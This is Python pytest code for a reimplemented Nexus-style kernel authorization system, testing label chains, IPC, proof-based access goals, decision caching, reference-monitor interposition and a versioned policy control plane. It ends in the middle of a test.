        assert chain.speaker_path()[1].startswith("NK-")

    def test_import_prefixes_remote_principal(self, fresh_kernel):
        proc = fresh_kernel.create_process("exporter")
        label = fresh_kernel.sys_say(proc.pid, "p")
        chain = fresh_kernel.externalize_label(label)
        importer = fresh_kernel.create_process("importer")
        imported = fresh_kernel.import_label_chain(chain, importer.pid)
        # The speaker is fully qualified by the attesting platform.
        assert str(imported.speaker).startswith("TPM-")
        assert str(imported.speaker).endswith(proc.path)

    def test_tampered_chain_rejected(self, fresh_kernel):
        proc = fresh_kernel.create_process("exporter")
        label = fresh_kernel.sys_say(proc.pid, "p")
        chain = fresh_kernel.externalize_label(label)
        leaf = chain.certs[-1]
        forged = type(leaf)(issuer=leaf.issuer, subject=leaf.subject,
                            statement=str(parse(f"{proc.path} says q")),
                            issuer_key=leaf.issuer_key,
                            subject_key=leaf.subject_key,
                            signature=leaf.signature)
        chain.certs[-1] = forged
        importer = fresh_kernel.create_process("importer")
        with pytest.raises(SignatureError):
            fresh_kernel.import_label_chain(chain, importer.pid)


class TestIPC:
    def test_port_binding_label_deposited(self, fresh_kernel):
        proc = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(proc.pid, "svc")
        expected = parse(
            f"Nexus says IPC.{port.port_id} speaksfor /proc/ipd/{proc.pid}")
        assert fresh_kernel.labels.holds(expected)

    def test_ipc_call_invokes_handler(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "echo",
                                        handler=lambda x: x + 1)
        client = fresh_kernel.create_process("client")
        assert fresh_kernel.ipc_call(client.pid, port.port_id, 41) == 42

    def test_ipc_records_connection(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "svc",
                                        handler=lambda: None)
        client = fresh_kernel.create_process("client")
        fresh_kernel.ipc_call(client.pid, port.port_id)
        assert (client.pid, port.port_id) in fresh_kernel.ports.connections

    def test_missing_port(self, fresh_kernel):
        client = fresh_kernel.create_process("client")
        with pytest.raises(NoSuchPort):
            fresh_kernel.ipc_call(client.pid, 999)

    def test_mailbox_send(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "inbox")
        client = fresh_kernel.create_process("client")
        assert fresh_kernel.ipc_send(client.pid, port.port_id, "hi")
        assert port.mailbox == ["hi"]


class TestDefaultPolicy:
    def test_owner_allowed(self, fresh_kernel):
        owner = fresh_kernel.create_process("owner")
        resource = fresh_kernel.resources.create(
            "/obj/x", "file", owner.principal)
        decision = fresh_kernel.authorize(owner.pid, "read",
                                          resource.resource_id)
        assert decision.allow

    def test_stranger_denied(self, fresh_kernel):
        owner = fresh_kernel.create_process("owner")
        stranger = fresh_kernel.create_process("stranger")
        resource = fresh_kernel.resources.create(
            "/obj/x", "file", owner.principal)
        decision = fresh_kernel.authorize(stranger.pid, "read",
                                          resource.resource_id)
        assert not decision.allow

    def test_guarded_call_raises_on_deny(self, fresh_kernel):
        owner = fresh_kernel.create_process("owner")
        stranger = fresh_kernel.create_process("stranger")
        resource = fresh_kernel.resources.create(
            "/obj/x", "file", owner.principal)
        with pytest.raises(AccessDenied):
            fresh_kernel.guarded_call(stranger.pid, "read",
                                      resource.resource_id, lambda: "data")
        assert fresh_kernel.guarded_call(
            owner.pid, "read", resource.resource_id, lambda: "data") == "data"


class TestGoalsAndProofs:
    def _setup(self, kernel):
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/obj/file", "file",
                                           owner.principal)
        return owner, client, resource

    def test_setgoal_requires_authorization(self, fresh_kernel):
        owner, client, resource = self._setup(fresh_kernel)
        with pytest.raises(AccessDenied):
            fresh_kernel.sys_setgoal(client.pid, resource.resource_id,
                                     "read", "true")
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id,
                                 "read", "true")

    def test_true_goal_allows_everyone(self, fresh_kernel):
        owner, client, resource = self._setup(fresh_kernel)
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id,
                                 "read", "true")
        assert fresh_kernel.authorize(client.pid, "read",
                                      resource.resource_id).allow

    def test_goal_requires_proof(self, fresh_kernel):
        owner, client, resource = self._setup(fresh_kernel)
        goal = f"{owner.path} says mayRead(?Subject)"
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                 goal)
        # No proof: denied.
        assert not fresh_kernel.authorize(client.pid, "read",
                                          resource.resource_id).allow

    def test_goal_with_subject_variable(self, fresh_kernel):
        owner, client, resource = self._setup(fresh_kernel)
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                 f"{owner.path} says mayRead(?Subject)")
        cred = fresh_kernel.sys_say(owner.pid,
                                    f"mayRead({client.path})").formula
        goal = parse(f"{owner.path} says mayRead({client.path})")
        bundle = make_bundle(goal, [cred])
        decision = fresh_kernel.authorize(client.pid, "read",
                                          resource.resource_id, bundle)
        assert decision.allow
        assert decision.cacheable

    def test_unissued_credential_rejected(self, fresh_kernel):
        """A proof over a label that was never `say`-ed fails the
        authenticity check even if presented in the bundle."""
        owner, client, resource = self._setup(fresh_kernel)
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                 f"{owner.path} says mayRead(?Subject)")
        forged = parse(f"{owner.path} says mayRead({client.path})")
        bundle = make_bundle(forged, [forged])
        decision = fresh_kernel.authorize(client.pid, "read",
                                          resource.resource_id, bundle)
        assert not decision.allow
        assert "credential" in decision.reason

    def test_delegation_proof(self, fresh_kernel):
        owner, client, resource = self._setup(fresh_kernel)
        deputy = fresh_kernel.create_process("deputy")
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                 f"{owner.path} says mayRead(?Subject)")
        handoff = fresh_kernel.sys_say(
            owner.pid, f"{deputy.path} speaksfor {owner.path}").formula
        grant = fresh_kernel.sys_say(
            deputy.pid, f"mayRead({client.path})").formula
        goal = parse(f"{owner.path} says mayRead({client.path})")
        bundle = make_bundle(goal, [handoff, grant])
        assert fresh_kernel.authorize(client.pid, "read",
                                      resource.resource_id, bundle).allow

    def test_registered_proof_used_automatically(self, fresh_kernel):
        owner, client, resource = self._setup(fresh_kernel)
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                 f"{owner.path} says mayRead(?Subject)")
        cred = fresh_kernel.sys_say(owner.pid,
                                    f"mayRead({client.path})").formula
        goal = parse(f"{owner.path} says mayRead({client.path})")
        fresh_kernel.sys_set_proof(client.pid, "read", resource.resource_id,
                                   make_bundle(goal, [cred]))
        assert fresh_kernel.authorize(client.pid, "read",
                                      resource.resource_id).allow


class TestAuthorities:
    def test_time_authority_gate(self, fresh_kernel):
        """The paper's time-sensitive file: access only before a deadline,
        via an authority — never via a transferable, expirable label."""
        clock = {"now": 100}
        fresh_kernel.register_authority(
            "ntp", ClockAuthority(lambda: clock["now"]))
        owner = fresh_kernel.create_process("owner")
        client = fresh_kernel.create_process("client")
        resource = fresh_kernel.resources.create("/obj/secret", "file",
                                                 owner.principal)
        fresh_kernel.sys_setgoal(
            owner.pid, resource.resource_id, "read",
            f"{owner.path} says TimeNow < 200")
        delegation = fresh_kernel.sys_say(
            owner.pid, "NTP speaksfor " + owner.path + " on TimeNow").formula
        goal = parse(f"{owner.path} says TimeNow < 200")
        ntp_claim = parse("NTP says TimeNow < 200")
        prover = Prover([delegation], authorities={ntp_claim: "ntp"})
        bundle = ProofBundle(prover.prove(goal), credentials=(delegation,))

        decision = fresh_kernel.authorize(client.pid, "read",
                                          resource.resource_id, bundle)
        assert decision.allow
        assert not decision.cacheable  # time-dependent: never cached

        clock["now"] = 300  # the deadline passes
        decision = fresh_kernel.authorize(client.pid, "read",
                                          resource.resource_id, bundle)
        assert not decision.allow

    def test_statement_set_authority(self, fresh_kernel):
        authority = StatementSetAuthority()
        fresh_kernel.register_authority("members", authority)
        statement = parse("Registrar says member(alice)")
        assert not fresh_kernel.authorities.query("members", statement)
        authority.assert_statement(statement)
        assert fresh_kernel.authorities.query("members", statement)
        authority.retract_statement(statement)
        assert not fresh_kernel.authorities.query("members", statement)

    def test_unknown_authority_fails_closed(self, fresh_kernel):
        assert not fresh_kernel.authorities.query("ghost", parse("p"))


class TestDecisionCache:
    def _guarded(self, kernel):
        owner = kernel.create_process("owner")
        client = kernel.create_process("client")
        resource = kernel.resources.create("/obj/c", "file", owner.principal)
        kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                           f"{owner.path} says mayRead(?Subject)")
        cred = kernel.sys_say(owner.pid, f"mayRead({client.path})").formula
        goal = parse(f"{owner.path} says mayRead({client.path})")
        bundle = make_bundle(goal, [cred])
        return owner, client, resource, bundle

    def test_second_call_hits_cache(self, fresh_kernel):
        owner, client, resource, bundle = self._guarded(fresh_kernel)
        fresh_kernel.authorize(client.pid, "read", resource.resource_id,
                               bundle)
        upcalls_before = fresh_kernel.default_guard.upcalls
        decision = fresh_kernel.authorize(client.pid, "read",
                                          resource.resource_id, bundle)
        assert decision.allow
        assert fresh_kernel.default_guard.upcalls == upcalls_before
        assert fresh_kernel.decision_cache.stats.hits >= 1

    def test_cache_transparency(self):
        """Same decisions with the cache on and off (invariant #4)."""
        for enabled in (True, False):
            kernel = NexusKernel()
            kernel.decision_cache.enabled = enabled
            owner, client, resource, bundle = self._guarded(kernel)
            first = kernel.authorize(client.pid, "read",
                                     resource.resource_id, bundle)
            second = kernel.authorize(client.pid, "read",
                                      resource.resource_id, bundle)
            assert first.allow and second.allow

    def test_setgoal_invalidates(self, fresh_kernel):
        owner, client, resource, bundle = self._guarded(fresh_kernel)
        fresh_kernel.authorize(client.pid, "read", resource.resource_id,
                               bundle)
        # Tighten the goal to something unprovable; cached ALLOW must die.
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                 f"{owner.path} says never(?Subject)")
        decision = fresh_kernel.authorize(client.pid, "read",
                                          resource.resource_id, bundle)
        assert not decision.allow

    def test_proof_update_invalidates_single_entry(self, fresh_kernel):
        owner, client, resource, bundle = self._guarded(fresh_kernel)
        fresh_kernel.sys_set_proof(client.pid, "read", resource.resource_id,
                                   bundle)
        fresh_kernel.authorize(client.pid, "read", resource.resource_id)
        before = len(fresh_kernel.decision_cache)
        fresh_kernel.sys_set_proof(client.pid, "read", resource.resource_id,
                                   bundle)
        assert len(fresh_kernel.decision_cache) == before - 1

    def test_subregion_resize(self):
        cache = DecisionCache(subregions=4)
        cache.insert(1, "read", 10, True)
        cache.resize(16)
        assert cache.lookup(1, "read", 10) is None
        assert cache.subregion_count == 16

    def test_subregion_isolation(self):
        """Invalidating one goal leaves other (op, obj) pairs intact when
        they hash to different subregions."""
        cache = DecisionCache(subregions=64)
        pairs = [("read", obj) for obj in range(20)]
        for op, obj in pairs:
            cache.insert(1, op, obj, True)
        survivor = next(
            (op, obj) for op, obj in pairs[1:]
            if hash((op, obj)) % 64 != hash(pairs[0]) % 64)
        cache.invalidate_goal(*pairs[0])
        assert cache.lookup(1, *survivor) is True
        assert cache.lookup(1, *pairs[0]) is None


class TestGuardCache:
    def test_hit_skips_recheck(self, fresh_kernel):
        owner = fresh_kernel.create_process("owner")
        client = fresh_kernel.create_process("client")
        resource = fresh_kernel.resources.create("/obj/g", "file",
                                                 owner.principal)
        fresh_kernel.sys_setgoal(owner.pid, resource.resource_id, "read",
                                 f"{owner.path} says ok(?Subject)")
        cred = fresh_kernel.sys_say(owner.pid, f"ok({client.path})").formula
        goal = parse(f"{owner.path} says ok({client.path})")
        bundle = make_bundle(goal, [cred])
        fresh_kernel.decision_cache.enabled = False  # isolate guard cache
        fresh_kernel.authorize(client.pid, "read", resource.resource_id,
                               bundle)
        misses = fresh_kernel.default_guard.cache.misses
        fresh_kernel.authorize(client.pid, "read", resource.resource_id,
                               bundle)
        assert fresh_kernel.default_guard.cache.hits >= 1
        assert fresh_kernel.default_guard.cache.misses == misses

    def test_per_root_quota_eviction(self):
        cache = GuardCache(capacity=100, per_root_quota=2)
        from repro.nal.checker import CheckResult
        result = CheckResult(conclusion=parse("p"), assumptions=(),
                             authority_queries=(), rule_count=0,
                             dynamic=False)
        cache.insert("k1", "rootA", result)
        cache.insert("k2", "rootA", result)
        cache.insert("k3", "rootA", result)  # exceeds quota: evicts own
        assert len(cache) == 2
        assert cache.lookup("k1") is None  # oldest of rootA was evicted
        assert cache.lookup("k3") is not None

    def test_eviction_prefers_requesting_principal(self):
        cache = GuardCache(capacity=2, per_root_quota=10)
        from repro.nal.checker import CheckResult
        result = CheckResult(conclusion=parse("p"), assumptions=(),
                             authority_queries=(), rule_count=0,
                             dynamic=False)
        cache.insert("a1", "rootA", result)
        cache.insert("b1", "rootB", result)
        cache.insert("b2", "rootB", result)  # full: evicts B's own entry
        assert cache.lookup("a1") is not None
        assert cache.lookup("b1") is None


class TestInterposition:
    def test_whitelist_monitor_blocks(self, fresh_kernel):
        proc = fresh_kernel.create_process("confined")
        monitor = SyscallWhitelistMonitor(allowed={"null", "gettimeofday"})
        fresh_kernel.interpose_syscall_channel(proc.pid, monitor)
        fresh_kernel.syscall(proc.pid, "null")
        with pytest.raises(AccessDenied):
            fresh_kernel.syscall(proc.pid, "yield")
        assert monitor.denied_calls == ["yield"]

    def test_monitor_can_rewrite_args(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "svc",
                                        handler=lambda x: x)

        class Doubler(ReferenceMonitor):
            def on_call(self, subject, operation, obj, args):
                return CallDecision.allow(args=(args[0] * 2,))

        fresh_kernel.sys_interpose(server.pid, port.port_id, Doubler())
        client = fresh_kernel.create_process("client")
        assert fresh_kernel.ipc_call(client.pid, port.port_id, 21) == 42

    def test_monitor_can_rewrite_result(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "svc",
                                        handler=lambda: "secret")

        class Redactor(ReferenceMonitor):
            def on_return(self, subject, operation, obj, result):
                return "REDACTED"

        fresh_kernel.sys_interpose(server.pid, port.port_id, Redactor())
        client = fresh_kernel.create_process("client")
        assert fresh_kernel.ipc_call(client.pid, port.port_id) == "REDACTED"

    def test_interposition_composes(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "svc",
                                        handler=lambda x: x)

        class AddOne(ReferenceMonitor):
            def on_call(self, subject, operation, obj, args):
                return CallDecision.allow(args=(args[0] + 1,))

        class TimesTen(ReferenceMonitor):
            def on_call(self, subject, operation, obj, args):
                return CallDecision.allow(args=(args[0] * 10,))

        fresh_kernel.sys_interpose(server.pid, port.port_id, AddOne())
        fresh_kernel.sys_interpose(server.pid, port.port_id, TimesTen())
        client = fresh_kernel.create_process("client")
        # Outermost first: (x + 1) then * 10.
        assert fresh_kernel.ipc_call(client.pid, port.port_id, 4) == 50

    def test_interpose_requires_consent(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "svc",
                                        handler=lambda: None)
        attacker = fresh_kernel.create_process("attacker")
        with pytest.raises(AccessDenied):
            fresh_kernel.sys_interpose(attacker.pid, port.port_id,
                                       ReferenceMonitor())

    def test_ipc_block(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "svc",
                                        handler=lambda: "x")

        class DenyAll(ReferenceMonitor):
            def on_call(self, subject, operation, obj, args):
                return CallDecision.deny()

        fresh_kernel.sys_interpose(server.pid, port.port_id, DenyAll())
        client = fresh_kernel.create_process("client")
        with pytest.raises(AccessDenied):
            fresh_kernel.ipc_call(client.pid, port.port_id)


class TestSyscalls:
    def test_basic_syscalls(self, fresh_kernel):
        parent = fresh_kernel.create_process("parent")
        child = fresh_kernel.create_process("child", parent_pid=parent.pid)
        assert fresh_kernel.syscall(child.pid, "getppid") == parent.pid
        assert fresh_kernel.syscall(child.pid, "null") is None
        t1 = fresh_kernel.syscall(child.pid, "gettimeofday")
        t2 = fresh_kernel.syscall(child.pid, "gettimeofday")
        assert t2 > t1

    def test_unknown_syscall(self, fresh_kernel):
        proc = fresh_kernel.create_process("p")
        with pytest.raises(KernelError):
            fresh_kernel.syscall(proc.pid, "bogus")

    def test_bare_mode_skips_redirector(self):
        kernel = NexusKernel(interpose_syscalls=False)
        proc = kernel.create_process("p")
        monitor = SyscallWhitelistMonitor(allowed=set())
        kernel.interpose_syscall_channel(proc.pid, monitor)
        # Interposition disabled: even a deny-all monitor never runs.
        kernel.syscall(proc.pid, "null")
        assert monitor.denied_calls == []


class TestIntrospection:
    def test_kernel_publishes_live_process_list(self, fresh_kernel):
        before = fresh_kernel.introspection.read("/proc/kernel/processes")
        proc = fresh_kernel.create_process("newbie")
        after = fresh_kernel.introspection.read("/proc/kernel/processes")
        assert str(proc.pid) in after.split(",")
        assert before != after

    def test_process_hash_published(self, fresh_kernel):
        proc = fresh_kernel.create_process("hashed", image=b"img")
        node = fresh_kernel.introspection.read(f"{proc.path}/hash")
        assert node == proc.image_hash.hex()

    def test_ipc_connections_visible(self, fresh_kernel):
        server = fresh_kernel.create_process("server")
        port = fresh_kernel.create_port(server.pid, "svc",
                                        handler=lambda: None)
        client = fresh_kernel.create_process("client")
        fresh_kernel.ipc_call(client.pid, port.port_id)
        view = fresh_kernel.introspection.read("/proc/kernel/ipc_connections")
        assert f"{client.pid}->{port.port_id}" in view

    def test_as_label(self, fresh_kernel):
        proc = fresh_kernel.create_process("labelled")
        label = fresh_kernel.introspection.as_label(f"{proc.path}/name")
        assert str(label.speaker) == proc.path

    def test_access_hook(self, fresh_kernel):
        fresh_kernel.introspection.access_hook = (
            lambda reader, path: reader == "kernel")
        proc = fresh_kernel.create_process("private")
        fresh_kernel.introspection.read(f"{proc.path}/name", reader="kernel")
        with pytest.raises(AccessDenied):
            fresh_kernel.introspection.read(f"{proc.path}/name",
                                            reader="snoop")
        fresh_kernel.introspection.access_hook = None


class TestScheduler:
    def test_proportional_share_converges(self, fresh_kernel):
        sched = fresh_kernel.scheduler
        sched.add_client("tenantA", tickets=300)
        sched.add_client("tenantB", tickets=100)
        sched.run(4000)
        assert abs(sched.share_of("tenantA") - 0.75) < 0.01
        assert abs(sched.share_of("tenantB") - 0.25) < 0.01

    def test_reserved_fraction_matches_tickets(self, fresh_kernel):
        sched = fresh_kernel.scheduler
        sched.add_client("a", tickets=100)
        sched.add_client("b", tickets=100)
        assert sched.reserved_fraction("a") == 0.5

    def test_weights_visible_through_introspection(self, fresh_kernel):
        fresh_kernel.scheduler.add_client("tenant", tickets=42)
        view = fresh_kernel.introspection.read("/proc/sched/clients")
        assert "tenant=42" in view

    def test_late_joiner_not_starved(self, fresh_kernel):
        sched = fresh_kernel.scheduler
        sched.add_client("early", tickets=100)
        sched.run(1000)
        sched.add_client("late", tickets=100)
        sched.run(1000)
        assert sched._require("late").ticks_received > 400
