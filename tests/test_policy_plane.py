"""The policy control plane: selectors, versioning, plan/apply/rollback,
atomic kernel installation, and structured deny explanations.

Covers the declarative layer end to end: documents round-trip and are
validated strictly, plans are pure and deterministic, applies are atomic
(all-or-nothing under authorization failure) with one epoch bump per
affected goal, rollback restores prior verdicts, and every guard deny
carries a machine-readable :class:`~repro.kernel.guard.Explanation`.
"""

import pytest

from repro.api import ApiError, NexusClient, NexusService
from repro.core.credentials import CredentialSet
from repro.errors import (AccessDenied, NoSuchPolicy, PolicyError)
from repro.kernel.kernel import NexusKernel
from repro.nal.parser import parse
from repro.nal.proof import Assume, ProofBundle
from repro.policy import PolicyRule, PolicySet, Selector


@pytest.fixture
def kernel():
    return NexusKernel()


@pytest.fixture
def admin(kernel):
    return kernel.create_process("admin")


def _files_policy(goal="Admin says mayRead(?Subject)", name="docs",
                  operations=("read",), selector=None):
    return PolicySet(name=name, rules=(
        PolicyRule(selector=selector or Selector(prefix="/files/",
                                                 kind="file"),
                   operations=tuple(operations), goal=goal),))


def _make_files(kernel, owner, count=3, prefix="/files/doc"):
    return [kernel.resources.create(f"{prefix}{i}", "file",
                                    owner.principal)
            for i in range(count)]


# --------------------------------------------------------------------------
# selectors and documents
# --------------------------------------------------------------------------

class TestSelector:
    def test_dimensions_conjoin(self, kernel, admin):
        resource = kernel.resources.create("/files/a.html", "file",
                                           admin.principal)
        assert Selector(prefix="/files/").matches(resource)
        assert Selector(glob="/files/*.html").matches(resource)
        assert Selector(kind="file").matches(resource)
        assert Selector(name="/files/a.html").matches(resource)
        assert Selector(prefix="/files/", kind="file",
                        glob="*.html").matches(resource)
        assert not Selector(prefix="/files/", kind="port").matches(resource)
        assert not Selector(glob="/files/*.css").matches(resource)

    def test_empty_selector_rejected(self):
        with pytest.raises(PolicyError):
            Selector()

    def test_wire_roundtrip_drops_unset_dimensions(self):
        selector = Selector(prefix="/a/", kind="file")
        document = selector.to_dict()
        assert set(document) == {"prefix", "kind"}
        assert Selector.from_dict(document) == selector

    @pytest.mark.parametrize("bad", [
        "nope", {"prefix": 3}, {"teleport": "/x/"}, {},
    ])
    def test_malformed_selector_rejected(self, bad):
        with pytest.raises(PolicyError):
            Selector.from_dict(bad)


class TestPolicyDocuments:
    def test_policy_set_roundtrip(self):
        policy_set = PolicySet(
            name="docs", description="who reads reports",
            rules=(PolicyRule(Selector(prefix="/r/"), ("read", "list"),
                              "A says ok(?Subject)", guard_port="g1"),
                   PolicyRule(Selector(kind="file"), ("write",), None)))
        assert PolicySet.from_dict(policy_set.to_dict()) == policy_set

    def test_template_expansion_per_resource(self, kernel, admin):
        resource = kernel.resources.create("/stores/jvm", "store",
                                           admin.principal)
        rule = PolicyRule(Selector(kind="store"), ("import",),
                          "C says typesafe({basename}) and "
                          "C says at({name}) and C says is({kind})")
        assert rule.goal_for(resource) == parse(
            "C says typesafe(jvm) and C says at(/stores/jvm) "
            "and C says is(store)")

    def test_bad_template_fails_at_construction(self):
        with pytest.raises(PolicyError):
            PolicyRule(Selector(kind="file"), ("read",),
                       "says says {name}")

    def test_last_matching_rule_wins(self, kernel, admin):
        resources = _make_files(kernel, admin, 2)
        policy_set = PolicySet(name="layered", rules=(
            PolicyRule(Selector(prefix="/files/"), ("read",),
                       "A says broad(?Subject)"),
            PolicyRule(Selector(name="/files/doc0"), ("read",),
                       "A says narrow(?Subject)")))
        desired = policy_set.desired_goals(resources)
        assert desired[(resources[0].resource_id, "read")].formula == \
            parse("A says narrow(?Subject)")
        assert desired[(resources[1].resource_id, "read")].formula == \
            parse("A says broad(?Subject)")

    def test_combinator_built_goals_normalize_to_text(self, kernel, admin):
        from repro.nal.policy import any_of, says
        goal = any_of(says("AuthA", "ok(?Subject)"),
                      says("AuthB", "ok(?Subject)"))
        rule = PolicyRule(Selector(prefix="/files/"), ("read",), goal)
        assert rule.goal == str(goal)
        resources = _make_files(kernel, admin, 1)
        kernel.policies.put(PolicySet(name="combo", rules=(rule,)))
        kernel.policies.apply(admin.pid, "combo")
        assert kernel.default_guard.goals.get(
            resources[0].resource_id, "read").formula == goal

    @pytest.mark.parametrize("bad", [
        {"name": "x"},                                  # no rules
        {"name": "x", "rules": []},                     # empty rules
        {"name": "", "rules": [{}]},                    # empty name
        {"name": "x", "rules": [{"operations": ["r"], "goal": "true"}]},
        {"name": "x", "rules": [{"selector": {"kind": "f"},
                                 "operations": [], "goal": "true"}]},
        {"name": "x", "extra": 1,
         "rules": [{"selector": {"kind": "f"}, "operations": ["r"],
                    "goal": "true"}]},
    ])
    def test_malformed_documents_rejected(self, bad):
        with pytest.raises(PolicyError):
            PolicySet.from_dict(bad)


# --------------------------------------------------------------------------
# versioned storage and planning
# --------------------------------------------------------------------------

class TestEngine:
    def test_put_assigns_monotonic_versions(self, kernel):
        first = kernel.policies.put(_files_policy())
        second = kernel.policies.put(_files_policy("B says ok(?Subject)"))
        assert (first, second) == (1, 2)
        assert kernel.policies.versions("docs") == [1, 2]
        assert kernel.policies.active_version("docs") is None

    def test_unknown_name_and_version_raise(self, kernel):
        with pytest.raises(NoSuchPolicy):
            kernel.policies.plan("ghost")
        kernel.policies.put(_files_policy())
        with pytest.raises(NoSuchPolicy):
            kernel.policies.plan("docs", 7)

    def test_plan_is_pure_and_deterministic(self, kernel, admin):
        _make_files(kernel, admin)
        kernel.policies.put(_files_policy())
        first = kernel.policies.plan("docs")
        second = kernel.policies.plan("docs")
        assert first == second
        assert [a.action for a in first] == ["set"] * 3
        assert len(kernel.default_guard.goals) == 0  # nothing installed

    def test_apply_then_replan_is_all_keep(self, kernel, admin):
        _make_files(kernel, admin)
        kernel.policies.put(_files_policy())
        result = kernel.policies.apply(admin.pid, "docs")
        assert (result.set_count, result.cleared,
                result.epoch_bumps) == (3, 0, 3)
        assert kernel.policies.active_version("docs") == 1
        replan = kernel.policies.plan("docs")
        assert [a.action for a in replan] == ["keep"] * 3
        reapply = kernel.policies.apply(admin.pid, "docs")
        assert (reapply.set_count, reapply.epoch_bumps) == (0, 0)

    def test_new_resources_covered_on_reapply(self, kernel, admin):
        _make_files(kernel, admin, 2)
        kernel.policies.put(_files_policy())
        kernel.policies.apply(admin.pid, "docs")
        kernel.resources.create("/files/doc9", "file", admin.principal)
        plan = kernel.policies.plan("docs")
        assert sorted((a.action, a.resource) for a in plan) == [
            ("keep", "/files/doc0"), ("keep", "/files/doc1"),
            ("set", "/files/doc9")]

    def test_narrowing_version_clears_abandoned_goals(self, kernel, admin):
        resources = _make_files(kernel, admin, 3)
        kernel.policies.put(_files_policy())
        kernel.policies.apply(admin.pid, "docs")
        kernel.policies.put(_files_policy(
            selector=Selector(name="/files/doc0")))
        result = kernel.policies.apply(admin.pid, "docs")
        assert (result.set_count, result.cleared) == (0, 2)
        goals = kernel.default_guard.goals
        assert goals.get(resources[0].resource_id, "read") is not None
        assert goals.get(resources[1].resource_id, "read") is None

    def test_clear_rule_reverts_to_default_policy(self, kernel, admin):
        resources = _make_files(kernel, admin, 1)
        kernel.policies.put(_files_policy())
        kernel.policies.apply(admin.pid, "docs")
        kernel.policies.put(_files_policy(goal=None, name="docs"))
        result = kernel.policies.apply(admin.pid, "docs")
        assert result.cleared == 1
        assert kernel.default_guard.goals.get(
            resources[0].resource_id, "read") is None

    def test_rollback_restores_prior_goals_and_verdicts(self, kernel,
                                                        admin):
        reader = kernel.create_process("reader")
        resources = _make_files(kernel, admin, 1)
        resource_id = resources[0].resource_id
        kernel.policies.put(_files_policy("Admin says ok(?Subject)"))
        kernel.policies.apply(admin.pid, "docs")
        cred = parse(f"Admin says ok({reader.principal})")
        kernel.say_as("Admin", f"ok({reader.principal})",
                      store=kernel.default_labelstore(reader.pid))
        bundle = ProofBundle(Assume(cred), credentials=(cred,))
        assert kernel.authorize(reader.pid, "read", resource_id,
                                bundle).allow
        kernel.policies.put(_files_policy("Admin says other(?Subject)"))
        kernel.policies.apply(admin.pid, "docs")
        assert not kernel.authorize(reader.pid, "read", resource_id,
                                    bundle).allow
        result = kernel.policies.rollback(admin.pid, "docs", 1)
        assert result.version == 1
        assert kernel.policies.active_version("docs") == 1
        assert kernel.authorize(reader.pid, "read", resource_id,
                                bundle).allow


# --------------------------------------------------------------------------
# the kernel's atomic install path
# --------------------------------------------------------------------------

class TestApplyPolicy:
    def test_epoch_bumped_once_per_pair(self, kernel, admin):
        resources = _make_files(kernel, admin, 2)
        before = kernel.decision_cache.stats.subregion_invalidations
        stats = kernel.apply_policy(admin.pid, [
            (resources[0].resource_id, "read", "A says a(?Subject)", None),
            (resources[0].resource_id, "read", "A says b(?Subject)", None),
            (resources[1].resource_id, "read", "A says a(?Subject)", None),
        ])
        assert stats["epoch_bumps"] == 2
        assert (kernel.decision_cache.stats.subregion_invalidations
                - before) == 2
        # last change per pair wins
        assert kernel.default_guard.goals.get(
            resources[0].resource_id, "read").formula == parse(
                "A says b(?Subject)")

    def test_unauthorized_apply_changes_nothing(self, kernel, admin):
        stranger = kernel.create_process("stranger")
        resources = _make_files(kernel, admin, 2)
        goals_before = len(kernel.default_guard.goals)
        with pytest.raises(AccessDenied):
            kernel.apply_policy(stranger.pid, [
                (resources[0].resource_id, "read", "true", None),
                (resources[1].resource_id, "read", "true", None)])
        assert len(kernel.default_guard.goals) == goals_before

    def test_unparseable_goal_aborts_before_authorization(self, kernel,
                                                          admin):
        resources = _make_files(kernel, admin, 1)
        upcalls_before = kernel.default_guard.upcalls
        with pytest.raises(Exception):
            kernel.apply_policy(admin.pid, [
                (resources[0].resource_id, "read", "says says", None)])
        assert kernel.default_guard.upcalls == upcalls_before
        assert len(kernel.default_guard.goals) == 0

    def test_destroyed_resource_does_not_brick_the_set(self, kernel,
                                                       admin):
        """Resource teardown leaves orphaned goalstore entries; the next
        apply must clear them as housekeeping, not die on NoSuchResource
        — and rollback must keep working too."""
        resources = _make_files(kernel, admin, 2)
        kernel.policies.put(_files_policy())
        kernel.policies.apply(admin.pid, "docs")
        doomed = resources[1].resource_id
        kernel.resources.destroy(doomed)
        assert kernel.default_guard.goals.get(doomed, "read") is not None
        result = kernel.policies.apply(admin.pid, "docs")
        assert result.cleared == 1
        assert kernel.default_guard.goals.get(doomed, "read") is None
        rolled = kernel.policies.rollback(admin.pid, "docs", 1)
        assert rolled.version == 1

    def test_set_on_missing_resource_still_errors(self, kernel, admin):
        from repro.errors import NoSuchResource
        with pytest.raises(NoSuchResource):
            kernel.apply_policy(admin.pid, [(31337, "read", "true", None)])

    def test_cover_extends_active_version_incrementally(self, kernel,
                                                        admin):
        resources = _make_files(kernel, admin, 1)
        kernel.policies.put(_files_policy())
        kernel.policies.apply(admin.pid, "docs")
        fresh = kernel.resources.create("/files/doc9", "file",
                                        admin.principal)
        result = kernel.policies.cover(admin.pid, "docs", fresh)
        assert (result.set_count, result.epoch_bumps) == (1, 1)
        assert kernel.default_guard.goals.get(fresh.resource_id,
                                              "read") is not None
        # The pair is recorded as policy-owned: a narrowing version
